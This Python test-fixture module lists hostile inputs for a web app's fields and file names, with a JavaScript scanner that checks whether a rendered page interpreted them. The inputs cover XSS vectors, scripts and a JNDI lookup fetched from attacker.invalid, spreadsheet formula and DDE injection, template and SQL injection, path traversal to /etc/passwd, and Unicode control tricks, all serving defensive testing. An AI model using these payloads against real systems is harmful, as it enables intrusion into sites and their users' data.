"""Texts of people who mean ill, for every field that a person or a file can fill; and how a page shows that one worked.

Most hold a mark, ⟦117⟧, inside what would be interpreted: `<b>⟦117⟧</b>` shown as it is written has `<b>` before the
mark, interpreted it is an element that holds the mark and nothing else.
"""

from __future__ import annotations

import re

PLAIN = [
    "<script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked=1">',
    "</script><script>window.hacked=1</script>",
    "<!--<script>window.hacked=1",
    "<a href='javascript:window.hacked=1'>click</a>",
    "<b>bold</b> and <i>italic</i> &lt;b&gt; &amp; &quot;",
    "<svg onload=window.hacked=1>",
    "![x](http://attacker.invalid/x.png) [y](javascript:alert(1))",
    '=HYPERLINK("http://attacker.invalid","x")',
    "{{7*7}} ${7*7} %{x} {n} {topic}",
    "\u202egnitset LTR \u2066hidden\u2069",
    "NUL \u0000 and \u2028 separators \u2029 and \U0001f600 emoji",
    "'; DROP TABLE reviews; -- \\u003cscript\\u003e",
    "x" * 3000,
]
"""Fourteen that tests of single parts name by their place."""

_HTML = (
    "<b>@</b>", "<i>@</i>", "<u>@</u>", "<h1>@</h1>", "<a href='https://attacker.invalid/a'>@</a>",
    "<a href='javascript:window.hacked=1'>@</a>", "<img src='https://attacker.invalid/i.png'>@",
    "<iframe src='https://attacker.invalid/f'></iframe>@",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>@",
    "<object data='https://attacker.invalid/o'></object>@", "<embed src='https://attacker.invalid/e'>@",
    "<link rel=stylesheet href='https://attacker.invalid/s.css'>@",
    "<style>@import 'https://attacker.invalid/s.css';*{display:none}</style>@",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>@", "<base href='https://attacker.invalid/'>@",
    "<form action='https://attacker.invalid/'><button>@</button></form>", "<input autofocus onfocus=window.hacked=1>@",
    "<details open ontoggle=window.hacked=1>@</details>", "<video src=x onerror=window.hacked=1></video>@",
    "<body onload=window.hacked=1>@", "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>@",
    "<template><img src=x onerror=window.hacked=1></template>@", '"><script>window.hacked=1</script>@',
    "'><img src=x onerror=window.hacked=1>@", "]]><script>window.hacked=1</script>@",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>@", "<ScRiPt/src=//attacker.invalid/x.js></sCrIpT>@",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;@", "&#60;img src=x onerror=window.hacked=1&#62;@",
)  # fmt: skip
_MARKDOWN = (
    "**@**", "*@*", "~~@~~", "`@`", "# @", "> @", "- @", "[@](https://attacker.invalid/m)",
    "[@](javascript:window.hacked=1)",
    "![@](https://attacker.invalid/p.png)", "<https://attacker.invalid/auto>@", "www.attacker.invalid/bare @",
    "$@$", "$$\\frac{1}{2}$$@", ":red[@]", ":blue-background[@]", ":material/home: @", ":smile: @",
    "| a |\n|---|\n| @ |",
)  # fmt: skip
_PLOTLY = (
    "a<br>@", "<sup>@</sup>", "<span style='color:red'>@</span>", "%{x}@", "%{customdata[0]}@", "<extra>@</extra>",
    "<a href='https://attacker.invalid/' target='_self'>@</a>",
)  # fmt: skip
_FORMULAS = ("=1+1&@", "+1+1&@", "-1+1&@", "\t=2+2&@", "＝3+3&@", "=cmd|' /C calc'!A0&@", "@SUM(1,1)&@")
_TEMPLATES = (
    "{0}{name}{n}@", "{{8*8}}@", "${8*8}@", "<%= 8*8 %>@", "%s%n%d@", "{% raw %}@", "${jndi:ldap://attacker.invalid/a}@",
    "{{constructor.constructor('window.hacked=1')()}}@",
)  # fmt: skip
_LETTERS = (
    "right\u202e@\u202c", "isolate\u2067@\u2069", "nul\u0000@", "bom\ufeff@", "zero\u200b@", "bell\u0007\u001b[31m@",
    "line\u2028@", "e" + "\u0301" * 60 + "@", "عربي@", "\U0001f468\u200d\U0001f469\u200d\U0001f467@",
)  # fmt: skip
_ELSEWHERE = (
    "../../../etc/passwd@", "C:\\con\\nul@", "'; DROP TABLE analyses;--@", "file:///etc/passwd@",
    "data:text/html,<script>window.hacked=1</script>@", "javascript:window.hacked=1//@", "\\u003cscript\\u003e@",
)  # fmt: skip


def _mark(i: int, template: str) -> str:
    # The last @ is the mark's place: some have one of their own before it.
    before, _at, after = template.rpartition("@")
    return f"{before}⟦{i}⟧{after}"


_ALL = (*_HTML, *_MARKDOWN, *_PLOTLY, *_FORMULAS, *_TEMPLATES, *_LETTERS, *_ELSEWHERE)
MARKED = [_mark(i, template) for i, template in enumerate(_ALL, start=100)]
TEXTS = [*PLAIN, *MARKED]
assert len(TEXTS) >= 60
assert len(set(TEXTS)) == len(TEXTS)

_UNSEEN = re.compile(r"[\s\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffd]+")


def before_mark(text: str) -> str:
    """The last three letters before a text's mark that are seen."""
    return _UNSEEN.sub("", text.partition("⟦")[0])[-3:]


FILE_NAME = "<img src=x onerror=window.hacked=1>**⟦99⟧**[a](https:attacker.invalid).csv"
BEFORE = {f"⟦{99 + i}⟧": before_mark(text) for i, text in enumerate([FILE_NAME, *MARKED])}

SCAN = r"""
(before) => {
  const found = [];
  const texts = [];
  const addresses = new Set(
    "href src srcset xlink:href action formaction data poster background srcdoc style".split(" "),
  );
  // The report holds its data in elements that no browser runs.
  const isTheirs = (node) => node.type !== "application/json" && /window\.hacked/.test(node.textContent);
  function walk(root) {
    for (const node of root.querySelectorAll("*")) {
      const name = node.localName;
      for (const { name: attribute, value } of node.attributes) {
        if (attribute.startsWith("on")) found.push(`<${name} ${attribute}>`);
        if (!addresses.has(attribute)) continue;
        let elsewhere = /^\s*(javascript|vbscript):/i.test(value) || /attacker|hacked/i.test(value);
        if (attribute === "href" && elsewhere) {
          // An address of ours may carry words that somebody looked for.
          try { elsewhere = new URL(value, document.baseURI).origin !== location.origin; } catch { /* no address */ }
        }
        // The preview of a report is a page of ours, in a frame that can reach nothing.
        if (attribute === "srcdoc" && node.getAttribute("sandbox")?.startsWith("allow-scripts")) elsewhere = false;
        if (elsewhere) found.push(`<${name} ${attribute}="${value.slice(0, 80)}">`);
      }
      if (name === "script" && isTheirs(node)) found.push("a script of theirs");
      if (node.matches(".katex, .MathJax, math")) found.push(`a formula: ${node.textContent.slice(0, 40)}`);
      if (/^⟦\d+⟧$/.test(node.textContent.trim())) found.push(`<${name}> holds ${node.textContent.trim()} alone`);
      if (node instanceof HTMLUnknownElement) found.push(`<${name}>, which nobody knows`);
      if (node.shadowRoot) walk(node.shadowRoot);
    }
    const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    let all = "";
    while (walker.nextNode()) {
      if (!walker.currentNode.parentElement?.closest("script, style")) all += walker.currentNode.data;
    }
    texts.push(all);
  }
  walk(document);
  const unseen = /[\s\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufffd]+/g;
  let marks = 0;
  for (const text of texts) {
    const plain = text.replace(unseen, "");
    for (const { 0: mark, index } of plain.matchAll(/⟦\d+⟧/g)) {
      marks++;
      const wanted = before[mark] ?? "";
      const seen = plain.slice(Math.max(0, index - wanted.length), index);
      if (seen !== wanted) found.push(`before ${mark}: ${JSON.stringify(seen)}, not ${JSON.stringify(wanted)}`);
    }
  }
  if (window.hacked !== undefined) found.push("a script ran");
  return { found: [...new Set(found)], marks };
}
"""
"""In a page: what was interpreted, and how many marks are shown."""
